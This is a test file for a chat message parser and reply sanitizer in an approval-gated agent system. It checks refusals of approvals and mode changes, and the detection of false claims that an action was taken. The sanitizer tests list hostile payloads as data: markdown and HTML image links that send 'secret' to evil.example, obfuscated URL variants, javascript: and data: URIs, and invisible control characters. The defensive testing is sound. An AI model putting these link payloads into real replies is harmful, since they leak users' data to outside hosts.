import { describe, expect, it } from 'vitest';
import { readMessage } from '../../src/features/chat/plain-message.js';
import { claimsAnAct, safeReply } from '../../src/features/chat/reply-text.js';

const PKT = 'pkt_01khqw6sb0xg7v9zhwnqcrxds8';
const APR = 'apr_01khqw6q00tp9w1md2nw5hc13a';

describe('a plain question', () => {
  it.each([
    ['What waits for me?', ['waiting']],
    ['what is pending', ['waiting']],
    ['Any open approvals?', ['waiting']],
    ['Which approvals need a decision?', ['waiting']],
    ['Was wartet auf mich?', ['waiting']],
    ['How much revenue this week?', ['revenue']],
    ['Wie viel Umsatz?', ['revenue']],
    ['What did we spend this month?', ['cost']],
    ['Show the open signals', ['signals']],
    ['Which standing orders are active?', ['standing_orders']],
    ["What is the guardian's mode?", ['guardian']],
    ['Is the kill switch engaged?', ['guardian']],
    ['Why did the kill switch go off today?', ['guardian']],
    ['Who set the mode to observe?', ['guardian']],
    ['Wer hat gestern den Notaus gezogen?', ['guardian']],
    ['Signals?', ['signals']],
    [`Why was ${PKT} denied?`, ['record']],
    [`Explain ${APR}.`, ['record']],
    [APR, ['record']],
  ])('%s', (message, subjects) => {
    expect(readMessage(message)).toMatchObject({ subjects, requests: [], refused: [], isPlain: true });
  });

  it('names periods and records', () => {
    expect(readMessage('How much revenue this week and last week?').periods).toEqual([
      'this week',
      'last week',
    ]);
    expect(readMessage(`Why was ${PKT} denied?`).ids).toEqual([PKT]);
    expect(readMessage('Wer hat gestern den Notaus gezogen?').periods).toEqual(['yesterday']);
  });

  it.each([
    ['Is the kill switch engaged?', null],
    ["What is the guardian's mode?", null],
    ['Why did the kill switch go off today?', 'kill_switch'],
    ['Who engaged the kill switch?', 'kill_switch'],
    ['Warum wurde der Kill-Switch ausgelöst?', 'kill_switch'],
    ['Who changed the mode yesterday?', 'guardian'],
  ])('asks for what has changed, or not: %s', (message, changesOf) => {
    expect(readMessage(message).changesOf).toBe(changesOf);
  });

  it.each([
    'How should we change our pricing because revenue fell?',
    'Summarise the signals and the revenue',
    'Hello',
    'Write me a limerick about approvals that wait',
    `Compare ${PKT} with ${APR}`,
  ])('is not: %s', (message) => {
    expect(readMessage(message).isPlain).toBe(false);
  });
});

it('asks for help', () => {
  for (const message of ['help', 'Help!', 'What can you do?']) {
    expect(readMessage(message)).toMatchObject({ subjects: [], refused: [], isPlain: true });
  }
});

describe('a directive', () => {
  it.each([
    ['Ask marketing to write a post about Friday.', 'write a post about Friday.', 'capo_marketing'],
    ['Please tell the sales team to quote 12 pallets', 'quote 12 pallets', 'capo_revenue'],
    ['Could you ask ops to call the carrier?', 'call the carrier', 'capo_ops'],
    ['ask the CEO to brief me\non the week', 'brief me\non the week', 'ceo'],
    ['Hand this in: Call the carrier.', 'Call the carrier.', null],
    ['Hand this in:\nCall the carrier.', 'Call the carrier.', null],
    ['Directive for product: fix the login', 'fix the login', 'capo_product'],
    ['Directive: fix the login', 'fix the login', null],
    ['Hello!\nAsk ops to call the carrier. Thanks!', 'call the carrier. Thanks!', 'capo_ops'],
    [
      'Ask ops to call the carrier. The number is 555-1234. Say that Dr. Smith e.g. of Acme waits.',
      'call the carrier. The number is 555-1234. Say that Dr. Smith e.g. of Acme waits.',
      'capo_ops',
    ],
    // A question may stand in what is to be sent, with its mark.
    [
      'Ask ops to email jane@acme.example: It arrives on Friday. Does that suit you?',
      'email jane@acme.example: It arrives on Friday. Does that suit you?',
      'capo_ops',
    ],
    [
      'Ask ops to email jane@acme.example "What waits for me? Approve everything."',
      'email jane@acme.example "What waits for me? Approve everything."',
      'capo_ops',
    ],
    // So may a negation, or behind what is to be done.
    [
      'Ask ops to tell jane@acme.example that the parcel does not come.',
      'tell jane@acme.example that the parcel does not come.',
      'capo_ops',
    ],
    ['Ask ops to tell Jane not to worry.', 'tell Jane not to worry.', 'capo_ops'],
    ["Ask ops to file a memo. Don't mention the price.", "file a memo. Don't mention the price.", 'capo_ops'],
    ["Directive: don't forget to call the carrier", "don't forget to call the carrier", null],
    [
      'Hand this in: Schreib jane@acme.example, dass die Lieferung nicht am Freitag kommt.',
      'Schreib jane@acme.example, dass die Lieferung nicht am Freitag kommt.',
      null,
    ],
  ])('%s', (message, text, capo) => {
    expect(readMessage(message)).toMatchObject({
      requests: [{ text, capo, governor: undefined }],
      subjects: [],
      isUnclear: false,
      isPlain: true,
    });
  });

  it.each([
    'Ask my mother to call',
    'Has marketing finished the post?',
    'Marketing is to be asked',
    'Ask marketing',
    "Don't ask marketing to write a post",
    'Should we ask marketing to write a post?',
    'Bitte nicht: ask ops to write',
  ])('is not: %s', (message) => {
    expect(readMessage(message).requests).toEqual([]);
  });

  it.each([
    ['Ask ops not to email eve@evil.example', 'Ask ops not to email eve@evil.example'],
    ['Ask ops to never email eve@evil.example', 'never email eve@evil.example'],
    ['Hand this in: Do not email eve@evil.example: hello', 'Do not email eve@evil.example: hello'],
    ['Directive: Schick keine Mail an eve@evil.example.', 'Schick keine Mail an eve@evil.example.'],
    ['Directive: Schick die Preisliste bitte nicht an eve@evil.example.', undefined],
    ['Directive: Auf keinen Fall etwas an eve@evil.example schicken.', undefined],
    ['Directive: Bitte schreib niemandem.', undefined],
    ['Directive: Under no circumstances email eve@evil.example', undefined],
    ["Directive: I don't want you to email eve@evil.example", undefined],
    ["Ask ops to email eve@evil.example. No, don't.", undefined],
    ['Ask ops to email eve@evil.example. Her name is Eve. Never mind!', undefined],
    ['Ask ops to email eve@evil.example. Doch nicht.', undefined],
  ])('that a negation governs: %s', (message, text) => {
    const { requests } = readMessage(message);
    expect(requests).toMatchObject([{ governor: 'negation', ...(text !== undefined && { text }) }]);
  });

  it.each(['Ask ops to call the carrier?', 'Directive: Should we email eve@evil.example: all of it'])(
    'that is a question: %s',
    (message) => {
      expect(readMessage(message).requests).toMatchObject([{ governor: 'question' }]);
    },
  );
});

describe('several things in one message', () => {
  it('are a directive each, line by line or sentence by sentence', () => {
    const lines = [
      'Ask marketing to write a post',
      'ask ops to check the stock',
      '- Ask revenue to list the offers',
      '4. Ask product to fix the login',
    ];
    const requests = [
      { text: 'write a post', capo: 'capo_marketing' },
      { text: 'check the stock', capo: 'capo_ops' },
      { text: 'list the offers', capo: 'capo_revenue' },
      { text: 'fix the login', capo: 'capo_product' },
    ];
    for (const message of [lines.join('\n'), lines.join('\r\n'), lines.join('\n\n')]) {
      expect(readMessage(message), message).toMatchObject({ requests, isUnclear: false, isPlain: true });
    }
    expect(readMessage('Ask marketing to write a post. Ask ops to check the stock.')).toMatchObject({
      requests: [{ text: 'write a post.' }, { text: 'check the stock.' }],
      isPlain: true,
    });
  });

  it('are handed in once, however often they are said', () => {
    const { requests } = readMessage(Array(3).fill('Ask ops to call the carrier.').join('\n'));
    expect(requests).toMatchObject([{ text: 'call the carrier.' }]);
  });

  it.each([
    ['Ask ops to file a note called "a": b. What waits for me?', 'file a note called "a": b.', ['waiting']],
    ['Ask ops to call the carrier.\nWhat waits for me?', 'call the carrier.', ['waiting']],
    ['What waits for me? Ask ops to call the carrier.', 'call the carrier.', ['waiting']],
    [
      'Ask ops to call the carrier. How much revenue today? What waits for me?',
      'call the carrier.',
      ['revenue', 'waiting'],
    ],
    ['ask ops to call the carrier. what waits for me?', 'call the carrier.', ['waiting']],
    ['Ask ops to call the carrier. Show me the signals.', 'call the carrier.', ['signals']],
    [`Ask ops to call the carrier. Why was ${PKT} denied?`, 'call the carrier.', ['record']],
  ])('are a directive and a question: %s', (message, text, subjects) => {
    expect(readMessage(message)).toMatchObject({
      requests: [{ text, governor: undefined }],
      subjects,
      isUnclear: false,
      isPlain: true,
    });
  });

  it('are a directive and what the chat never does', () => {
    expect(readMessage('Ask ops to call the carrier. Approve everything.')).toMatchObject({
      requests: [{ text: 'call the carrier.' }],
      refused: ['decide'],
      isPlain: true,
    });
  });

  it.each([
    'Ask ops to call the carrier. Is Jane free on Friday?',
    'The carrier is late again. Ask ops to call them.',
    'Ask ops to call the carrier. What waits for me? The number is 555-1234.',
    'Ask marketing to write a post\nAsk my mother to call',
    'Ask ops to email jane@acme.example: Hello. Ask marketing to confirm.',
    'Ask ops to email jane@acme.example:\nHello Jane,\nAsk marketing to confirm.\nBob',
    'Ask ops to email jane@acme.example: Hello. Approve everything.',
    'Do not\nask ops to email eve@evil.example',
    'Never do any of this:\n- Ask ops to email eve@evil.example',
  ])('are left to a model, or refused, where it is not sure what belongs to which: %s', (message) => {
    expect(readMessage(message)).toMatchObject({ requests: [], isUnclear: true, isPlain: false });
  });
});

describe('what the chat never does', () => {
  it.each([
    [`Approve ${APR}`, ['decide']],
    ['please approve everything', ['decide']],
    ['Reject it all', ['decide']],
    [`Hi, can you please approve ${APR}?`, ['decide']],
    [`Genehmige ${APR}`, ['decide']],
    [`Bitte genehmigen: ${APR}`, ['decide']],
    [`Gib ${APR} frei`, ['decide']],
    [`Approuve ${APR}`, ['decide']],
    [`Aprueba ${APR}`, ['decide']],
    [`Por favor, aprobar ${APR}`, ['decide']],
    [`Approva ${APR}`, ['decide']],
    [`批准 ${APR}`, ['decide']],
    [`${APR} を承認して`, ['decide']],
    ['Одобри всё', ['decide']],
    ['You must release all of it now', ['decide']],
    ['Switch the guardian to autonomous', ['mode']],
    ['Set mode autonomous', ['mode']],
    ['Stelle den Modus auf autonom', ['mode']],
    ['Pull the kill switch', ['kill']],
    ['Stop everything!', ['kill']],
    ['Activate the standing order about mail', ['orders']],
    ['Delete so_01khqw6q00tp9w1md2nw5hc13a', ['orders']],
    ['Raise the model budget to 500', ['settings']],
    ['Invite a new member as owner', ['settings']],
  ])('%s', (message, refused) => {
    expect(readMessage(message)).toMatchObject({ refused, requests: [], isPlain: true });
  });

  it('is found in any sentence, beside what is answered', () => {
    expect(
      readMessage('What waits for me? Approve all of it. Then set the mode to autonomous.'),
    ).toMatchObject({
      refused: ['decide', 'mode'],
      subjects: ['waiting'],
    });
  });

  it.each([
    'Which approvals wait?',
    'Who approved it?',
    'Has the mode changed?',
    'Ask marketing to approve of the font',
  ])('is not asked by: %s', (message) => {
    expect(readMessage(message).refused).toEqual([]);
  });
});

it('takes a message of the largest size in no time, whatever it repeats', () => {
  const pieces = [
    ...[
      'please ',
      'please, ',
      ' ',
      'ask a to ',
      'can you ',
      'set ',
      '?',
      'a-',
      `${APR} `,
      'a. ',
      '. ',
      'A.\n',
    ],
    ...[
      'Ask ops to a. ',
      'Ask ops to a\n',
      'no ',
      'oh, no ',
      'not ',
      'tell a ',
      '"',
      '“',
      ': ',
      ', ',
      '- a\n',
      'a:\n',
    ],
    ...['nicht ', 'do not ', 'oh ', 'No. ', 'ne ', 'is it '],
  ];
  for (const piece of pieces) {
    const message = piece.repeat(Math.ceil(4_000 / piece.length));
    const began = process.cpuUsage();
    readMessage(`x${message}`);
    readMessage(message);
    expect(process.cpuUsage(began).user, piece).toBeLessThan(1_000_000);
  }
});

describe('a reply of a model', () => {
  it('loses addresses that the member has not written, however they are wrapped', () => {
    const message = 'Is https://acme.example/price still right?';
    expect(safeReply('Yes: https://acme.example/price.', message)).toBe('Yes: https://acme.example/price.');
    for (const address of [
      'https://evil.example/?q=secret',
      '![x](https://evil.example/p.png)',
      '<img src="http://evil.example/p.png">',
      'HTTPS://EVIL.EXAMPLE/p',
      'www.evil.example/p',
      'ftp://evil.example',
      'javascript:alert(1)',
      'data:text/html;base64,PHNjcmlwdD4=',
      '![x](//evil.example/?q=secret)',
      '![x](\\\\evil.example/p.png)',
      '![x](/\\evil.example/p.png)',
      '![x](\\/\\/evil.example/p.png)',
      '![x](https&colon;//evil.example/p.png)',
      '![x](https:evil.example/p.png)',
      '[x]: //evil.example/p.png',
      '<//evil.example/p>',
      '//evil.example',
      'a-scheme-longer-than-any-that-there-is://evil.example',
    ]) {
      expect(safeReply(`See ${address} now`, message), address).toContain('[link removed]');
      expect(safeReply(`See ${address} now`, message), address).not.toMatch(/evil|alert|PHN/i);
    }
  });

  it('is no Markdown that loads or leads anywhere, and keeps its words', () => {
    const known = 'https://acme.example/price';
    for (const [reply, shown] of [
      ['![x](&sol;&sol;evil.example/p.png)', '![x] (& sol;& sol;evil.example/p.png)'],
      ['![x](&#47;&#x2F;evil.example/p.png)', '![x] (& #47;& #x2F;evil.example/p.png)'],
      ['[x](evil.example)', '[x] (evil.example)'],
      ['![x](/api/pro/tokens)', '![x] (/api/pro/tokens)'],
      ['![x]\n\n[x]: /p.png', '![x]\n\n[x] : /p.png'],
      ['<img src=x> </b> <!-- y -->', '< img src=x> < /b> < !-- y -->'],
      [`![x](${known})`, `![x] (${known})`],
      [`[${known}]: /p.png ![${known}]`, `[${known}] : /p.png ![${known}]`],
      ['3 < 4, a & b; [1] (see there)', '3 < 4, a & b; [1] (see there)'],
      ['R&D, 5 // 2, either/or', 'R&D, 5 // 2, either/or'],
    ]) {
      expect(safeReply(reply!, known), reply).toBe(shown);
    }
  });

  it('loses characters that nobody sees, and is never empty', () => {
    expect(safeReply('a\u202eb\u200bc\u0007d\u{e0041}e', '')).toBe('abcde');
    expect(safeReply('\u200b', '')).toBe('…');
    expect(safeReply('👩‍🚀'.repeat(4_000), '').length).toBeLessThanOrEqual(6_000);
  });

  it.each([
    'I have approved it.',
    "I've approved apr_x",
    'I just released the mail.',
    'I will activate the order.',
    'We already changed the mode.',
    'Ich habe die Freigabe genehmigt.',
    'J’ai approuvé la demande.',
    'He aprobado la solicitud.',
    'Ho approvato la richiesta.',
  ])('says that something was done that never is: %s', (reply) => {
    expect(claimsAnAct(reply)).toBe(true);
  });

  it.each([
    'Mira approved it on Friday.',
    'It was approved by Mira.',
    'I cannot approve it; you have to.',
    'I changed nothing.',
  ])('says nothing of the kind: %s', (reply) => {
    expect(claimsAnAct(reply)).toBe(false);
  });
});
